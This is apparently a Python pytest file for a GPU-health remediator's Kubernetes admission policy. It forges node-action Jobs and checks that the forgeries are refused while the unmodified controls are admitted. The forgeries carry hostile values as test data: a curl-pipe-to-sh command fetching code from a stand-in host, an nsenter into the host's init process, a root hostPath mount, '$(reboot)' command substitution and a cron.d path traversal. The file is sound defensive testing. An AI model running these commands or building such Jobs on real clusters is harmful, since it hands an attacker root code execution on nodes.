"""Forged node-action Jobs, one matrix for the four shapes the remediator creates (reset, reboot, diagnose, evidence):
each is sent with the remediator's token to the fake API server, which defaults it as the API server does and enforces
the chart's rendered ValidatingAdmissionPolicy with its own CEL; each forgery has its control, the same Job as the
remediator renders it, which is admitted on the same cluster. What a forgery changes is always in the privileged
container (the diagnostic Job's collect step), where a command of the thief's choosing would run as root on the node.

The issue-34 forgery: an evidence Job whose EVIDENCE_UPLOAD is set twice, the first entry the policy's value and the
last (the one the kubelet sets) a command of the thief's, which evidence.sh runs with bash -c in a privileged, hostPID
container. The policy checked that one entry was right; now each variable is named once and every entry is checked.
"""

from __future__ import annotations

import copy
import json
import re
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from typing import Any

import pytest
from kubernetes import client
from kubernetes.client.exceptions import ApiException

from gpuhealth.remediator.act.diagnose_job import render_diagnose_job
from gpuhealth.remediator.act.evidence_job import render_evidence_job
from gpuhealth.remediator.act.node_jobs import render_job
from gpuhealth.remediator.decide.diagnosis import Provisioned
from gpuhealth.remediator.decide.vocabulary import Purpose
from gpuhealth.remediator.policy import Policy
from tests.fakes.apiserver import FakeCluster
from tests.fakes.apiserver.admission import attributes, service_account
from tests.fakes.apiserver.defaults import default_job
from tests.support import chart_rbac
from tests.support.chart_render import render

NS = "gpuhealth"
POLICY_NAME = "gpuhealth-remediator-node-action-jobs"
NODE = "gpu-0"
EPISODE = datetime(2026, 12, 7, 9, 37, 37, tzinfo=UTC)
UPLOAD = "aws s3 cp \"$EVIDENCE_BUNDLE\" s3://rma-bundles/"
THIEF = "curl -s https://evil.example/x | sh"
OTHER_IMAGE = "docker.io/library/alpine:3"
# The chart as a user with an upload command configures it: the forged EVIDENCE_UPLOAD is not the admitted one
VALUES = {"remediator": {"policy": {"evidence": {"upload_command": UPLOAD}}}}
Job = dict[str, Any]


def _pod(job: Job) -> dict[str, Any]:
    pod: dict[str, Any] = job["spec"]["template"]["spec"]
    return pod


def _privileged(job: Job) -> dict[str, Any]:
    """The container that runs privileged on the node: the diagnostic Job's collect step, the others' one container."""
    pod = _pod(job)
    container: dict[str, Any] = (pod.get("initContainers") or pod["containers"])[0]
    return container


def _render(shape: str, name: str, policy: Policy) -> Job:
    if shape == "evidence":
        return render_evidence_job(name, NODE, policy, EPISODE, "reboot")
    if shape == "diagnose":
        return render_diagnose_job(name, NODE, Purpose.DIAGNOSE, Provisioned(8, 32, "p5.48xlarge"), policy)
    return render_job(shape, name, NODE, policy, "3" if shape == "reset_gpu" else None)


SHAPES = ("reset_gpu", "reboot", "diagnose", "evidence")


def _env_twice(job: Job) -> None:
    """A variable the template sets (or one bash reads) set a second time, the last entry the thief's."""
    c = _privileged(job)
    env = c.setdefault("env", [{"name": "BASH_ENV", "value": ""}])
    env.append({"name": env[0]["name"], "value": THIEF})


def _command(job: Job) -> None:
    c = _privileged(job)
    c["command"] = [*c["command"][:-1], f"{c['command'][-1]}; {THIEF}"] if c["command"][0] == "bash" else \
        ["nsenter", "--target", "1", "--mount", "--", "sh", "-c", THIEF]


def _host_path(job: Job) -> None:
    _pod(job).setdefault("volumes", []).append({"name": "host-root", "hostPath": {"path": "/"}})
    _privileged(job).setdefault("volumeMounts", []).append({"name": "host-root", "mountPath": "/host"})


def _shell(name: str) -> dict[str, Any]:
    return {"name": name, "image": OTHER_IMAGE, "command": ["sh", "-c", THIEF], "securityContext": {"privileged": True}}


FORGED: dict[str, Callable[[Job], object]] = {
    "a variable set twice": _env_twice,
    "an extra container": lambda j: _pod(j)["containers"].append(_shell("shell")),
    "an init container": lambda j: _pod(j).setdefault("initContainers", []).append(_shell("first")),
    "a changed command": _command,
    "args after the command": lambda j: _privileged(j).update(args=[THIEF]),
    "another image": lambda j: _privileged(j).update(image=OTHER_IMAGE),
    "a hostPath added": _host_path,
    "another ServiceAccount": lambda j: _pod(j).update(serviceAccountName="gpuhealth-remediator"),
}


@pytest.fixture(scope="module")
def cluster() -> Iterator[FakeCluster]:
    with FakeCluster() as c:
        c.add_node(NODE)
        chart_rbac.enforce(c, VALUES)
        yield c


@pytest.fixture(scope="module")
def policy() -> Policy:
    return chart_rbac.chart_policy(VALUES)


def _batch(cluster: FakeCluster) -> client.BatchV1Api:
    return client.BatchV1Api(client.ApiClient(chart_rbac.configuration(cluster)))


def _admitted(cluster: FakeCluster, job: Job) -> None:
    _batch(cluster).create_namespaced_job(NS, copy.deepcopy(job))
    assert (NS, job["metadata"]["name"]) in cluster.jobs


def _refused(cluster: FakeCluster, job: Job) -> str:
    with pytest.raises(ApiException) as err:
        _batch(cluster).create_namespaced_job(NS, job)
    status: dict[str, Any] = json.loads(err.value.body)
    assert (err.value.status, status["reason"]) == (403, "Forbidden"), status
    assert f"ValidatingAdmissionPolicy '{POLICY_NAME}' with binding '{POLICY_NAME}' denied request" in status["message"]
    assert (NS, job["metadata"]["name"]) not in cluster.jobs  # nothing was stored
    message: str = status["message"]
    return message


def _pair(shape: str, tag: str, policy: Policy) -> tuple[Job, Job]:
    """The remediator's own Job of this shape (the control) and a copy of it to forge, each with its own name."""
    control = _render(shape, f"gpuhealth-{shape.replace('_', '-')}-{tag}-control", policy)
    forged = copy.deepcopy(control)
    forged["metadata"]["name"] = control["metadata"]["name"].replace("-control", "-forged")
    return control, forged


@pytest.mark.parametrize("forgery", sorted(FORGED))
@pytest.mark.parametrize("shape", SHAPES)
def test_a_forged_node_action_job_of_each_shape_is_refused_and_its_control_admitted(
        cluster: FakeCluster, policy: Policy, shape: str, forgery: str) -> None:
    control, forged = _pair(shape, str(sorted(FORGED).index(forgery)), policy)
    FORGED[forgery](forged)
    _admitted(cluster, control)
    _refused(cluster, forged)


def _evidence_env(job: Job) -> list[dict[str, str]]:
    env: list[dict[str, str]] = _privileged(job)["env"]
    return env


def test_an_evidence_job_whose_upload_command_is_set_twice_is_refused(cluster: FakeCluster, policy: Policy) -> None:
    """The reviewer's forgery, four variables as the policy counted them: the policy's upload command first, the
    thief's last (the one the container gets)."""
    control, forged = _pair("evidence", "twice", policy)
    env = _evidence_env(forged)
    assert [e["name"] for e in env][-1] == "EVIDENCE_UPLOAD" and env[-1]["value"] == UPLOAD
    env[2] = dict(env[3])  # EVIDENCE_NAME gone, the size unchanged
    env[3] = {"name": "EVIDENCE_UPLOAD", "value": THIEF}
    _admitted(cluster, control)
    assert "names each container, volume, environment variable and mount once" in _refused(cluster, forged)


EVIDENCE_VARIABLES: dict[str, Callable[[list[dict[str, str]]], object]] = {
    "another upload command": lambda env: env[3].update(value=THIEF),
    "no upload command": lambda env: env[3].pop("value"),
    "another node": lambda env: env[0].update(value="gpu-1"),
    "an episode that is not a time": lambda env: env[1].update(value="$(reboot)"),
    "another name": lambda env: env[2].update(value="../../etc/cron.d/x"),
    "a value from a secret": lambda env: env[3].update(value=None,
                                                      valueFrom={"secretKeyRef": {"name": "s", "key": "k"}}),
    "the upload command twice, both right": lambda env: env.__setitem__(2, dict(env[3])),
}


@pytest.mark.parametrize("change", sorted(EVIDENCE_VARIABLES))
def test_every_variable_of_the_evidence_job_is_checked(cluster: FakeCluster, policy: Policy, change: str) -> None:
    control, forged = _pair("evidence", f"var{sorted(EVIDENCE_VARIABLES).index(change)}", policy)
    env = _evidence_env(forged)
    EVIDENCE_VARIABLES[change](env)
    for entry in env:
        if entry.get("value") is None:
            entry.pop("value", None)
    _admitted(cluster, control)
    _refused(cluster, forged)


def test_an_evidence_job_without_an_episode_is_the_remediators_and_admitted(cluster: FakeCluster,
                                                                           policy: Policy) -> None:
    job = render_evidence_job("gpuhealth-evidence-no-episode", NODE, policy, None, "reboot")
    assert _evidence_env(job)[1] == {"name": "EVIDENCE_EPISODE", "value": ""}
    _admitted(cluster, job)


def _invalid(cluster: FakeCluster, job: Job) -> str:
    with pytest.raises(ApiException) as err:
        _batch(cluster).create_namespaced_job(NS, job)
    status: dict[str, Any] = json.loads(err.value.body)
    assert (err.value.status, status["reason"]) == (422, "Invalid"), status
    assert (NS, job["metadata"]["name"]) not in cluster.jobs
    message: str = status["message"]
    return message


def _policy_alone(cluster: FakeCluster, job: Job) -> str:
    """What the chart's policy says of a Job the API server's validation would refuse first: the policy's own word,
    should a Job ever reach it unvalidated (a policy is evaluated on the object as it is, not as it should be)."""
    assert cluster.admission is not None
    path = f"/apis/batch/v1/namespaces/{NS}/jobs"
    remediator = service_account(NS, chart_rbac.REMEDIATOR_SA, pod="gpuhealth-remediator-0")
    denial = cluster.admission.admit(attributes("POST", path, job), remediator, default_job(job), None)
    assert denial is not None and denial.code == 403
    message: str = denial.status["message"]
    return message


TWICE = "names each container, volume, environment variable and mount once"


def test_names_held_twice_are_refused_in_every_list_of_the_pod(cluster: FakeCluster, policy: Policy) -> None:
    """A variable of one name twice the API server admits (with a warning): the policy refuses it. A volume, container
    or mount path twice the API server refuses itself (422), and the policy would too."""
    control, env = _pair("diagnose", "env", policy)
    _admitted(cluster, control)
    collect = _privileged(env)
    collect["env"] = [collect["env"][0], dict(collect["env"][0])]  # NVIDIA_VISIBLE_DEVICES=all twice
    assert TWICE in _refused(cluster, env)
    _, volume = _pair("reset_gpu", "volume", policy)
    _pod(volume)["volumes"].append({"name": "persistenced", "hostPath": {"path": "/"}})
    _, mount = _pair("diagnose", "mount", policy)
    _pod(mount)["containers"][0]["volumeMounts"].append({"name": "host-sys", "mountPath": "/diag", "readOnly": True})
    _, container = _pair("diagnose", "container", policy)
    _pod(container)["containers"][0]["name"] = "collect"  # the judge under the collect step's name
    for job, said in ((volume, 'volumes[1].name: Duplicate value: "persistenced"'),
                      (mount, 'volumeMounts[2].mountPath: Invalid value: "/diag": must be unique'),
                      (container, 'containers[0].name: Duplicate value: "collect"')):
        assert said in _invalid(cluster, job)
        assert TWICE in _policy_alone(cluster, job)


@pytest.mark.parametrize("shape", ["reset_gpu", "reboot"])
def test_a_reset_or_reboot_job_in_the_evidence_image_is_refused(shape: str) -> None:
    """Each Job runs its own image: evidence.image is admitted for the evidence Job alone."""
    values = {"remediator": {"policy": {"evidence": {"image": "registry.example.com/rma/evidence:1"}}}}
    policy = chart_rbac.chart_policy(values)
    with FakeCluster() as c:
        c.add_node(NODE)
        chart_rbac.enforce(c, values)
        _admitted(c, _render("evidence", "gpuhealth-evidence-own-image", policy))
        control, forged = _pair(shape, "image", policy)
        _admitted(c, control)
        _privileged(forged)["image"] = "registry.example.com/rma/evidence:1"
        _refused(c, forged)
        _, evidence = _pair("evidence", "jobs-image", policy)
        _privileged(evidence)["image"] = policy.jobs.image
        assert "policy evidence.image" in _refused(c, evidence)


def test_without_evidence_the_evidence_shape_is_not_admitted() -> None:
    values = {"remediator": {"policy": {"evidence": {"enabled": False}}}}
    policy = chart_rbac.chart_policy(values)
    assert not policy.evidence.enabled
    with FakeCluster() as c:
        c.add_node(NODE)
        chart_rbac.enforce(c, values)
        _admitted(c, _render("reboot", "gpuhealth-reboot-no-evidence", policy))
        message = _refused(c, _render("evidence", "gpuhealth-evidence-disabled", policy))
        assert "policy evidence.enabled is false" in message


KEYED = r"(env|containers|initContainers|allContainers|ephemeralContainers|volumes|volumeMounts|imagePullSecrets)"


def test_the_policy_never_compares_a_list_the_api_server_keys_whole() -> None:
    """The API server compares a keyed list (listType map) by key in any order, the fake in order: a policy that
    compared one whole could refuse a forgery here and admit it there. Every check is per entry instead."""
    vap = next(d for d in render(VALUES) if d["kind"] == "ValidatingAdmissionPolicy"
               and d["metadata"]["name"] == POLICY_NAME)
    expressions = [v["expression"] for v in vap["spec"]["validations"] + vap["spec"]["variables"]]
    whole = re.compile(rf"\.{KEYED}\s*[!=]=|[!=]=\s*(variables|object|c|i)\.([A-Za-z.]*\.)?{KEYED}\b")
    assert [e for e in expressions if whole.search(e)] == []
    assert whole.search("has(c.env) && c.env == [{'name': 'A', 'value': 'b'}]")  # the check can fail
